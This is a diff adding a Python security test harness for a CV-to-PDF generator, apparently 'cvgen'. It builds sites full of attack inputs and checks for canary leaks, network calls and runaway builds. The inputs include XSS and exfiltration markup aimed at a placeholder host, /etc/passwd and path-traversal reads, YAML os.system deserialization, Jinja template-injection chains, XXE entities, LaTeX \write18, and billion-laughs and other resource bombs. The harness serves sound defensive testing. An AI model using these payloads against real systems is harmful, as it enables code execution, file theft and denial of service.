@@ -1,0 +1,382 @@
+"""Content, settings and themes that try to read the disk, to reach the network, to break out or to never end.
+
+`python tests/attacks.py FOLDER [NAME…]` builds each of them to PDF under the limits and prints a line of JSON for each.
+`{file}` stands for a file outside of the site, `{url}` for its file: address, `{web}` for an address on the network.
+"""
+
+from __future__ import annotations
+
+import json
+import socket
+import sys
+import time
+from dataclasses import dataclass
+from pathlib import Path
+
+CANARY = "canary-5e1f-outside"
+WEB = "http://192.0.2.1/track"
+SECONDS = 12
+
+
+@dataclass(frozen=True)
+class Attack:
+    """Files of a site by their names; `bomb` only ends under limits; `exit` when the outcome has to be this one."""
+
+    name: str
+    files: dict[str, str]
+    bomb: bool = False
+    exit: int | None = None
+
+
+BIO = "---\nname: Ada Example\n---\n"
+
+
+def _content(rows: list[str]) -> list[Attack]:
+    return [
+        Attack(f"markup {n}: {row[:40]}", {"content/bio.md": f"{BIO}Tides. {row}\n\nMore.\n"})
+        for n, row in enumerate(rows)
+    ]
+
+
+def _body(rows: list[str], *, bomb: bool = False) -> list[Attack]:
+    """HTML in a theme's page."""
+    page = '{{% include "classic/cv.html.j2" %}}\n{}\n'
+    return [
+        Attack(f"theme {n}: {row[:40]}", _theme({"cv.html.j2": page.format(row)}), bomb=bomb)
+        for n, row in enumerate(rows)
+    ]
+
+
+def _style(rows: list[str], *, bomb: bool = False) -> list[Attack]:
+    style = '{}\n{{% include "classic/print.css" %}}\n{}\n'
+    return [
+        Attack(
+            f"style {n}: {row[:40]}",
+            _theme({"print.css": style.format(row if row.startswith("@import") else "", row)}),
+            bomb=bomb,
+        )
+        for n, row in enumerate(rows)
+    ]
+
+
+def _theme(files: dict[str, str], *, description: str = "extends: classic\n") -> dict[str, str]:
+    return {
+        "content/bio.md": f"{BIO}Ada measures tides.\n",
+        "cvgen.yml": "theme: ./mine\n",
+        "mine/theme.yml": description,
+        **{f"mine/{name}": text for name, text in files.items()},
+    }
+
+
+def _jinja(rows: list[str], *, bomb: bool = False, exit: int | None = None) -> list[Attack]:  # noqa: A002
+    page = '{{% include "classic/cv.html.j2" %}}\n<p>{}</p>\n'
+    return [
+        Attack(f"jinja {n}: {row[:40]}", _theme({"cv.html.j2": page.format(row)}), bomb=bomb, exit=exit)
+        for n, row in enumerate(rows)
+    ]
+
+
+def _page(rows: list[str], *, bomb: bool = False) -> list[Attack]:
+    """A Jekyll page with Liquid in it."""
+    config = "title: Ada Example\nauthor: {name: Ada Example}\nplugins: [evil]\n"
+    return [
+        Attack(
+            f"liquid {n}: {row[:40]}",
+            {
+                "_config.yml": config,
+                "_pages/about.md": f"---\npermalink: /\ntitle: About\n---\n# Ada\n\nTides. {row}\n\n# Education\n\n- *2020*, BSc\n",
+            },
+            bomb=bomb,
+        )
+        for n, row in enumerate(rows)
+    ]
+
+
+def _named(kind: str, rows: list[tuple[dict[str, str], int | None]], *, bomb: bool = False) -> list[Attack]:
+    bio = {"content/bio.md": f"{BIO}Ada measures tides.\n"}
+    return [
+        Attack(f"{kind} {n}: {next(iter(files.values()))[:40]}", {**bio, **files}, bomb=bomb, exit=status)
+        for n, (files, status) in enumerate(rows)
+    ]
+
+
+def _laughs(depth: int) -> str:
+    """Billions of laughs in YAML."""
+    rows = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+    rows += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, depth)]
+    return "\n".join(rows)
+
+
+USES = "".join(f"<g id='u{n}'>{f'<use href=%22#u{n - 1}%22/>'.replace('%22', chr(39)) * 12}</g>" for n in range(1, 9))
+VARS = "".join(f"--v{n}:{f'var(--v{n - 1}) ' * 12};" for n in range(1, 9))
+
+#: HTML, CSS and SVG.
+MARKUP = (
+    *_content(
+        [
+            '<img src="{url}">',
+            '<img src="{web}.png">',
+            '<img src="x" srcset="{url} 1x, {web} 2x">',
+            "![a]({url})",
+            "![a]({web}.png)",
+            "![a](../../outside/secret.txt)",
+            '<iframe src="{url}"></iframe>',
+            '<object data="{url}"></object>',
+            '<embed src="{url}">',
+            '<video poster="{url}" src="{web}"></video>',
+            '<link rel="attachment" href="{url}">',
+            '<a rel="attachment" href="{url}">take</a>',
+            '<link rel="stylesheet" href="{web}.css">',
+            "<style>@import url({web}.css); body{background:url({url})}</style>",
+            '<p style="background-image:url({url})">x</p>',
+            '<script src="{web}.js">document.title="owned"</script>',
+            "<script>fetch('{web}')</script>",
+            '<svg xmlns="http://www.w3.org/2000/svg"><image href="{url}"/></svg>',
+            '<svg><use href="{url}#a"/></svg>',
+            '<base href="file:///"><img src="etc/passwd">',
+            '<meta http-equiv="refresh" content="0;url={web}">',
+            "[click](javascript:alert(1))",
+            "[click](file:///etc/passwd)",
+            "[click](data:text/html,<script>alert(1)</script>)",
+            "[click]({url})",
+            "[click](JaVaScRiPt&#58;alert(1))",
+            '<a href="vbscript:x">x</a>',
+            '<a href=" &#1; javascript:alert(1)">x</a>',
+            '<form action="{web}"><input name="a"></form>',
+            "<table background='{url}'><tr><td background='{web}'>x</td></tr></table>",
+            "<body background='{url}'>",
+            "</style></p></main></body><img src='{url}'>",
+            "<!--[if IE]><img src='{web}'><![endif]--><!-- --!><img src='{url}'>",
+            "<math><mtext><style><img src='{web}'></style></mtext></math>",
+            "<noscript><p title='</noscript><img src={web}>'></noscript>",
+            "<xml><!DOCTYPE a [<!ENTITY x SYSTEM '{url}'>]><a>&x;</a></xml>",
+            "<input type=image src='{url}'>",
+            "<picture><source srcset='{url}'><img src='{web}'></picture>",
+        ]
+    ),
+    *_body(
+        [
+            '<img alt="x" src="{url}">',
+            '<img alt="x" src="{web}.png">',
+            '<img alt="x" src="//192.0.2.1/a.png">',
+            '<img alt="x" src="../../outside/secret.txt">',
+            '<img alt="x" src="cvgen-font:../../outside/secret.txt">',
+            '<img alt="x" src="cvgen-font:coverage.json">',
+            '<img alt="x" src="ftp://192.0.2.1/a.png">',
+            '<link rel="attachment" href="{url}" title="x">',
+            '<a rel="attachment" href="{url}">take</a>',
+            '<link rel="stylesheet" href="{url}">',
+            '<object data="{url}">x</object>',
+            '<embed src="{url}">',
+            '<base href="{url}"><img alt="x" src="secret.txt">',
+            '<p style="background:url({url})">x</p>',
+            '<p style="content:url({web})">x</p>',
+            '<svg xmlns="http://www.w3.org/2000/svg"><title>x</title><image href="{url}" width="9" height="9"/></svg>',
+            '<svg xmlns="http://www.w3.org/2000/svg"><title>x</title><use href="{url}#a"/></svg>',
+            "<img alt='x' src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='{url}' width='9' height='9'/></svg>\">",
+            "<img alt='x' src=\"data:image/svg+xml,<!DOCTYPE a [<!ENTITY x SYSTEM '{url}'>]><svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><text>&x;</text></svg>\">",
+            "<img alt='x' src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><style>@import url({url});</style></svg>\">",
+            "<img alt='x' src='data:image/png;base64,AAAA'>",
+            '<img src="data:,x">',
+            '<a href="{url}">x</a>',
+        ]
+    ),
+    *_style(
+        [
+            "@import url({web}.css);",
+            "@import url({url});",
+            "@import '../../outside/secret.txt';",
+            "body { background: url({url}) }",
+            "body { background: url({web}.png) }",
+            "@font-face { font-family: x; src: url({url}) } body { font-family: x }",
+            "@font-face { font-family: x; src: url({web}.woff2) } h1 { font-family: x }",
+            "h1::before { content: url({url}) }",
+            "p { list-style-image: url({url}); cursor: url({web}), auto; border-image: url({web}) 3 }",
+            "@page { background: url({url}); @top-left { content: url({web}) } }",
+            "@namespace url({web}); @charset 'x';",
+        ]
+    ),
+    *_body(
+        [
+            f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><title>x</title><g id='u0'><rect width='1' height='1'/></g>{USES}<use href='#u8'/></svg>",
+            "<table><tr><td colspan='1000000'>x</td></tr></table>",
+            "<table><tr><td rowspan='65534'>x</td></tr></table>" * 40,
+            "<div>" * 3000 + "x",
+            "<p>{% for i in range(90000) %}<b>x</b> {% endfor %}</p>",
+        ],
+        bomb=True,
+    ),
+    *_style(
+        [
+            ":root { --v0: x; " + VARS + " } h1::before { content: var(--v8) }",
+            "body:has(p:has(b)) *:has(*):has(*:has(*)) { color: red } " * 30,
+            "@page { size: 1px 1px; margin: 0 }",
+        ],
+        bomb=True,
+    ),
+)
+
+#: YAML, Liquid, Jinja, Markdown, BibTeX and paths.
+OTHER = (
+    *_named(
+        "yaml",
+        [
+            ({"cvgen.yml": _laughs(9)}, 1),
+            ({"content/bio.md": f"---\nname: Ada\n{_laughs(9)}\n---\nTides.\n"}, None),
+            ({"cvgen.yml": "theme: !!python/object/apply:os.system ['id']\n"}, 1),
+            ({"content/bio.md": "---\nname: !!python/object/apply:os.system ['touch owned']\n---\nTides.\n"}, 1),
+            ({"cvgen.yml": "[" * 5000}, 1),
+            ({"content/skills.md": "---\na: &a [*a]\n---\nx\n"}, None),
+            ({"cvgen.yml": "theme: ../../outside\n"}, None),
+            ({"cvgen.yml": "output: '../../owned-{lang}'\n"}, 1),
+            ({"cvgen.yml": "private: ../outside/secret.txt\n"}, 1),
+            ({"cvgen.yml": "private: /etc/passwd\n"}, 1),
+            ({"content/bio.md": "---\nname: Ada\nphoto: {file}\n---\nx\n", "cvgen.yml": "options: {photo: show}\n"}, 1),
+            ({"content/bio.md": "---\nname: Ada\nphoto: {web}.png\n---\nx\n"}, 1),
+            ({"content/bio.md": "---\nname: Ada\nphoto: /dev/zero\n---\nx\n"}, 1),
+        ],
+    ),
+    *_page(
+        [
+            "{% include ../../outside/secret.txt %}",
+            "{% include_relative ../../outside/secret.txt %}",
+            "{% include {file} %}",
+            "{% for i in (1..1000000000) %}x{% endfor %}",
+            "{% for i in (1..9999) %}{% for j in (1..9999) %}x{% endfor %}{% endfor %}",
+            "{% assign a = 'xxxxxxxxxx' %}{% for i in (1..40) %}{% assign a = a | append: a %}{% endfor %}{{ a }}",
+            "{{ 'x' | times: 9 | a: b | c }} {{ site.static_files | where_exp: 'x', 'x == 1' }}",
+            "{% capture a %}" * 500,
+        ]
+    ),
+    *_jinja(
+        [
+            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
+            "{{ view.__init__.__globals__ }}",
+            "{{ self._TemplateReference__context }}",
+            "{{ lipsum.__globals__['os'] }}",
+            "{{ rich.__globals__ }}",
+            "{{ '%s' % view.sections.__class__.__base__ }}",
+            "{{ '{0.__class__}'.format(view) }}",
+            '{% include "../../outside/secret.txt" %}',
+            '{% include "{file}" %}',
+            '{% extends "../../outside/secret.txt" %}',
+            "{% for i in range(10**9) %}x{% endfor %}",
+            "{% import 'os' as os %}{{ os }}",
+        ],
+        exit=1,
+    ),
+    *_jinja(
+        [
+            "{% for i in range(99999) %}{% for j in range(99999) %}{% for k in range(9999) %}{% endfor %}{% endfor %}{% endfor %}",
+            "{{ ('x' * 10**9 * 10) | length }}",
+            "{{ 9 ** (9 ** 9) }}",
+        ],
+        bomb=True,
+        exit=1,
+    ),
+    *_named(
+        "markdown",
+        [
+            ({"content/projects.md": "[" * 20_000}, None),
+            ({"content/projects.md": "> " * 3000 + "x"}, None),
+            ({"content/projects.md": "*a **a " * 3000}, None),
+            ({"content/projects.md": "".join(f"{'  ' * n}- x\n" for n in range(300))}, None),
+            ({"content/projects.md": "<div>" * 5000}, None),
+            (
+                {
+                    "content/publications.bib": "@string{a = {xxxxxxxxxx}}\n"
+                    + "".join(f"@string{{{chr(98 + n)} = {' # '.join([chr(97 + n)] * 20)}}}\n" for n in range(20))
+                    + "@article{k, title = u, author = {A B}}\n"
+                },
+                None,
+            ),
+            ({"content/publications.bib": "@article{k, title = " + "{" * 9000 + "x, author={A}}"}, None),
+            (
+                {
+                    "content/publications.bib": "@article{k, title={\\input{file} \\write18{id} \\include{/etc/passwd}}, author={A B}}"
+                },
+                None,
+            ),
+            (
+                {"content/publications.bib": "@article{k, title={T}, author={" + " and ".join(["A B"] * 5000) + "}}"},
+                None,
+            ),
+        ],
+        bomb=True,
+    ),
+)
+
+
+def lay(attack: Attack, folder: Path) -> Path:
+    """Writes an attack's site and what it is after; gives the site."""
+    outside = folder / "outside"
+    outside.mkdir(parents=True, exist_ok=True)
+    secret = outside / "secret.txt"
+    secret.write_text(f"{CANARY}\n", encoding="utf-8")
+    site = folder / "site"
+    for name, text in attack.files.items():
+        for mark, value in (("{file}", str(secret)), ("{url}", secret.as_uri()), ("{web}", WEB)):
+            text = text.replace(mark, value)
+        path = site / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    return site
+
+
+def leaks(folder: Path, said: str) -> list[str]:
+    """Where the canary got to, packed or not."""
+    import pypdf
+
+    found = ["messages"] if CANARY in said else []
+    for path in (folder / "site" / "dist").glob("*"):
+        data = path.read_bytes()
+        if CANARY.encode() in data:
+            found.append(path.name)
+        if path.suffix == ".pdf":
+            reader = pypdf.PdfReader(path)
+            if reader.attachments or any(CANARY in page.extract_text() for page in reader.pages):
+                found.append(path.name)
+    return found
+
+
+def main() -> None:
+    """Builds each attack under the limits; sockets of the internet are counted, by way of fork in children too."""
+    from typer.testing import CliRunner
+
+    from cvgen.cli import app
+
+    folder = Path(sys.argv[1])
+    connections = folder / "connections"
+
+    def refuse(*_: object, **__: object) -> None:
+        with connections.open("a") as stream:
+            stream.write("x")
+        raise OSError("no network here")
+
+    setattr(socket, "getaddrinfo", refuse)  # noqa: B010 - these are what this test is about
+    setattr(socket, "create_connection", refuse)  # noqa: B010
+    setattr(socket.socket, "connect", refuse)  # noqa: B010
+    for n, attack in enumerate((*MARKUP, *OTHER)):
+        if sys.argv[2:] and not any(attack.name.startswith(name) for name in sys.argv[2:]):
+            continue
+        home = folder / str(n)
+        site = lay(attack, home)
+        start = time.monotonic()
+        result = CliRunner().invoke(app, ["build", str(site), "--timeout", str(SECONDS), "--lang", "en", "-v"])
+        row = {
+            "name": attack.name,
+            "exit": result.exit_code,
+            "seconds": round(time.monotonic() - start, 1),
+            "leaks": leaks(home, result.output),
+            "connections": connections.exists(),
+            "traceback": "Traceback" in result.output
+            or (result.exception is not None and not isinstance(result.exception, SystemExit)),
+            "said": result.output[-400:],
+            "expected": attack.exit,
+        }
+        print(json.dumps(row), flush=True)
+
+
+if __name__ == "__main__":
+    main()
